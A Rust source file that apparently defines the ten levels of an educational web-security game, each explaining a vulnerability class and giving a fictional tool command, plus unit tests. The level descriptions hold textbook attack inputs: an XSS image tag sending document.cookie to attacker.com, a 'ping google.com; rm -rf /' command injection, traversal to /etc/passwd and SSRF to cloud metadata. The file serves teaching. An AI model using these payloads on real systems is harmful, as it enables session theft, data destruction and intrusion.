use crate::level::Level;

// ---------------------------------------------------------------------------
// Constants
// ---------------------------------------------------------------------------

pub const STATIC_LEVEL_COUNT: u32 = 10;

/// Id of the generated level that follows the static catalog.
pub const DYNAMIC_LEVEL_ID: u32 = 11;

pub const TOTAL_LEVELS: u32 = DYNAMIC_LEVEL_ID;

// ---------------------------------------------------------------------------
// Static table
// ---------------------------------------------------------------------------

struct StaticLevel {
    title: &'static str,
    vulnerability: &'static str,
    tool: &'static str,
    description: &'static str,
    expected_command: &'static str,
    hint: &'static str,
}

/// Indexed by `id - 1`.
static CATALOG: [StaticLevel; STATIC_LEVEL_COUNT as usize] = [
    StaticLevel {
        title: "SQL Injection Attack",
        vulnerability: "SQL Injection allows attackers to insert malicious SQL code into input fields, bypassing authentication and accessing sensitive data.",
        tool: "sqlmap-lite",
        description: r#"SQL Injection is one of the most common web vulnerabilities. When user input is directly concatenated into SQL queries without proper validation or parameterized queries, attackers can manipulate database operations.

Example vulnerable code:
  query = "SELECT * FROM users WHERE username='" + userInput + "'"

An attacker could input: admin' --
This would result in: SELECT * FROM users WHERE username='admin' --'
The -- comments out the password check, granting access without authentication.

Use sqlmap-lite to find and exploit the SQL injection vulnerability in the login form."#,
        expected_command: "sqlmap-lite --target=login.form --inject=username --dump-tables",
        hint: "Try using --inject flag with the username field to extract database tables",
    },
    StaticLevel {
        title: "Cross-Site Scripting (XSS)",
        vulnerability: "XSS allows attackers to inject malicious scripts into web pages viewed by other users, stealing cookies, sessions, or performing unauthorized actions.",
        tool: "xss-probe",
        description: r#"Cross-Site Scripting (XSS) occurs when user input is reflected in HTML without proper encoding. There are three types:
    - Stored XSS: Malicious script is saved in database and executed for all users
    - Reflected XSS: Script is reflected in the response to a request
    - DOM-based XSS: Script manipulates the DOM on the client side

Example vulnerable code:
  <h1>Welcome, ${userInput}</h1>

An attacker could inject: <img src=x onerror="fetch('attacker.com/steal?c='+document.cookie)">

Use xss-probe to detect and exploit XSS vulnerabilities on the comment form."#,
        expected_command: "xss-probe --target=comments --payload=<script>alert(1)</script>",
        hint: "Try targeting the comments field with a basic script payload",
    },
    StaticLevel {
        title: "Cross-Site Request Forgery (CSRF)",
        vulnerability: "CSRF tricks authenticated users into performing unintended actions on a website where they are logged in.",
        tool: "csrf-forge",
        description: r#"Cross-Site Request Forgery (CSRF) exploits the trust between a user and a website. If a user is logged into a bank and visits a malicious site, that site can make unauthorized requests using the user's authenticated session.

Example attack:
User is logged into their-bank.com
User visits attacker-site.com which contains:
  <img src="their-bank.com/transfer?to=attacker&amount=1000">

The browser automatically sends the user's authenticated cookies, executing the transfer!

Use csrf-forge to generate and execute a CSRF attack against the money transfer endpoint."#,
        expected_command: "csrf-forge --endpoint=/transfer --params=to:attacker,amount:9999 --session-hijack",
        hint: "Create a forge request with transfer parameters targeting the money endpoint",
    },
    StaticLevel {
        title: "Insecure Direct Object References (IDOR)",
        vulnerability: "IDOR allows attackers to access unauthorized resources by directly modifying object references (like IDs in URLs).",
        tool: "idor-scanner",
        description: r#"Insecure Direct Object References (IDOR) occurs when an application uses user-controlled input to directly access objects without proper authorization checks.

Example vulnerable endpoint:
  GET /api/users/123/profile

An attacker could change the ID to:
  GET /api/users/124/profile
  GET /api/users/1/profile (to access admin)

Without proper authorization checks on the backend, the attacker gains access to other users' data.

Use idor-scanner to enumerate and access user profiles you shouldn't have access to."#,
        expected_command: "idor-scanner --endpoint=/api/users --range=1-1000 --extract=email,phone,ssn",
        hint: "Scan the user endpoint with a range of IDs to find sensitive data",
    },
    StaticLevel {
        title: "Server-Side Request Forgery (SSRF)",
        vulnerability: "SSRF allows attackers to make the server perform HTTP requests to internal systems it can access, bypassing firewalls and access controls.",
        tool: "curl-ssrf",
        description: r#"Server-Side Request Forgery (SSRF) tricks the server into making requests to internal resources. The attacker controls where the server sends requests.

Example vulnerable code:
  fetch(user_provided_url)

An attacker could provide:
  http://localhost:8080/admin (accessing internal admin panel)
  http://169.254.169.254/metadata (accessing cloud metadata)
  http://internal-database:5432 (accessing internal database)

Use curl-ssrf to make the server request internal resources you shouldn't have access to."#,
        expected_command: "curl-ssrf --method=GET --target=http://localhost:8080/admin --exfiltrate",
        hint: "Try targeting localhost services or internal IP addresses",
    },
    StaticLevel {
        title: "Remote Code Execution (RCE)",
        vulnerability: "RCE allows attackers to execute arbitrary code on the server, gaining complete control over the system.",
        tool: "payload-injector",
        description: r#"Remote Code Execution (RCE) is the most critical vulnerability. It occurs when user input is used to execute code without sanitization.

Common RCE vectors:
  - Unsafe deserialization
  - Command injection: system("user_input")
  - Template injection: render("user_input")
  - Expression injection: eval(user_input)

Example vulnerable code:
  system("ping " + user_host)

An attacker could input: google.com; rm -rf /
This executes: ping google.com; rm -rf /

Use payload-injector to inject commands and achieve remote code execution."#,
        expected_command: "payload-injector --vector=command-injection --payload=; whoami; --target=ping-service --execute",
        hint: "Try injecting shell commands with semicolons as separators",
    },
    StaticLevel {
        title: "Path Traversal",
        vulnerability: r#"Path Traversal allows attackers to access files outside the intended directory by using path sequences like "../"."#,
        tool: "path-crawler",
        description: r#"Path Traversal (Directory Traversal) exploits improper path validation to access files and directories the application shouldn't expose.

Example vulnerable endpoint:
  GET /files?name=report.pdf
  Reads: /var/www/uploads/report.pdf

An attacker could request:
  GET /files?name=../../etc/passwd
  Reads: /etc/passwd (system user file)

Common sequences:
  ../ (Unix/Linux)
  ..\ (Windows)
  ....// (bypass simple ../ filters)
  %2e%2e%2f (URL encoded)

Use path-crawler to navigate the file system and access sensitive configuration files."#,
        expected_command: "path-crawler --base=/files --traverse=../../../../../../etc/passwd --read",
        hint: "Use relative path traversal sequences to escape the upload directory",
    },
    StaticLevel {
        title: "Broken Authentication",
        vulnerability: "Broken Authentication allows attackers to bypass login mechanisms through weak passwords, session fixation, or credential stuffing.",
        tool: "auth-cracker",
        description: r#"Broken Authentication includes various vulnerabilities in authentication mechanisms:
  - Weak password policies
  - Session fixation attacks
  - Predictable session tokens
  - Lack of rate limiting on login attempts
  - No account lockout mechanisms

Example weaknesses:
  - Passwords stored as plain text (instead of hashed)
  - Session IDs predictable: 1, 2, 3, 4...
  - No multi-factor authentication
  - Sessions never expire
  - Passwords like "admin", "123456", "password"

Use auth-cracker to bypass authentication through credential stuffing and weak session tokens."#,
        expected_command: "auth-cracker --mode=credential-stuff --wordlist=common-passwords.txt --session-enum --force",
        hint: "Try common passwords and enumerate session IDs",
    },
    StaticLevel {
        title: "Security Misconfiguration",
        vulnerability: "Security Misconfiguration includes leaving default credentials, exposing debug information, and improperly configured security headers.",
        tool: "config-scanner",
        description: r#"Security Misconfiguration vulnerabilities result from improper setup and maintenance:
  - Default credentials still active (admin/admin, admin/password)
  - Debug mode enabled in production
  - Unnecessary services exposed
  - Missing security headers
  - Outdated software with known vulnerabilities
  - Overly permissive access controls
  - Stack traces exposed in error messages

Example issues:
  - Response header: Server: Apache 2.4.1 (reveals version for targeting known exploits)
  - Error page shows file paths and database info
  - Admin panel at /admin with default credentials
  - S3 bucket publicly readable

Use config-scanner to identify misconfigurations and access restricted areas."#,
        expected_command: "config-scanner --scan-headers --probe-defaults --enum-services --extract-version-info",
        hint: "Scan for default credentials, exposed headers, and debug endpoints",
    },
    StaticLevel {
        title: "Sensitive Data Exposure",
        vulnerability: "Sensitive Data Exposure occurs when sensitive information (passwords, API keys, PII) is transmitted or stored without proper protection.",
        tool: "data-exfiltrator",
        description: r#"Sensitive Data Exposure includes improper handling of sensitive information:
  - Data transmitted over unencrypted HTTP (not HTTPS)
  - Sensitive data in browser history, logs, or cache
  - Weak encryption algorithms
  - Hardcoded secrets in source code
  - API keys exposed in public repositories
  - Personal information (PII) not properly protected
  - Database backups with full data available

Examples of exposed sensitive data:
  - Credit card numbers in response without hashing
  - API keys in front-end JavaScript
  - Passwords logged in plaintext
  - Tokens cached in browser storage
  - Database connection strings in config files

Use data-exfiltrator to identify and extract sensitive data."#,
        expected_command: "data-exfiltrator --scan=network,storage,logs --extract-secrets --decode-base64 --output-report",
        hint: "Search for secrets in network traffic, browser storage, and server logs",
    },
];

// ---------------------------------------------------------------------------
// Lookup
// ---------------------------------------------------------------------------

/// The fixed definition of level `id`, or `None` outside `1..=10`.
pub fn static_level(id: u32) -> Option<Level> {
    let idx = id.checked_sub(1)? as usize;
    CATALOG.get(idx).map(|s| Level {
        id,
        title: s.title.to_string(),
        vulnerability: s.vulnerability.to_string(),
        tool: s.tool.to_string(),
        description: s.description.to_string(),
        expected_command: s.expected_command.to_string(),
        hint: s.hint.to_string(),
    })
}

/// All static levels in progression order.
pub fn static_levels() -> impl Iterator<Item = Level> {
    (1..=STATIC_LEVEL_COUNT).filter_map(static_level)
}

pub fn is_static(id: u32) -> bool {
    (1..=STATIC_LEVEL_COUNT).contains(&id)
}

/// Valid level ids are `1..=11`.
pub fn is_known(id: u32) -> bool {
    (1..=TOTAL_LEVELS).contains(&id)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn every_static_level_is_well_formed_with_matching_id() {
        for id in 1..=STATIC_LEVEL_COUNT {
            let level = static_level(id).unwrap();
            assert_eq!(level.id, id);
            assert!(level.is_well_formed(), "level {id} has an empty field");
        }
    }

    #[test]
    fn out_of_range_ids_are_absent() {
        assert!(static_level(0).is_none());
        assert!(static_level(DYNAMIC_LEVEL_ID).is_none());
        assert!(static_level(u32::MAX).is_none());
    }

    #[test]
    fn iteration_is_in_id_order() {
        let ids: Vec<u32> = static_levels().map(|l| l.id).collect();
        assert_eq!(ids, (1..=10).collect::<Vec<_>>());
    }

    #[test]
    fn tools_are_unique() {
        let tools: HashSet<String> = static_levels().map(|l| l.tool).collect();
        assert_eq!(tools.len(), STATIC_LEVEL_COUNT as usize);
    }

    #[test]
    fn expected_commands_start_with_their_tool() {
        for level in static_levels() {
            assert!(
                level.expected_command.starts_with(&level.tool),
                "level {} command does not use {}",
                level.id,
                level.tool
            );
        }
    }

    #[test]
    fn first_level_is_sql_injection() {
        let l = static_level(1).unwrap();
        assert_eq!(l.tool, "sqlmap-lite");
        assert_eq!(l.vulnerability_class(), "SQL");
        assert_eq!(
            l.expected_command,
            "sqlmap-lite --target=login.form --inject=username --dump-tables"
        );
    }

    #[test]
    fn known_ids_cover_dynamic_slot() {
        assert!(is_known(1));
        assert!(is_known(DYNAMIC_LEVEL_ID));
        assert!(!is_known(0));
        assert!(!is_known(12));
        assert!(is_static(10));
        assert!(!is_static(11));
    }
}
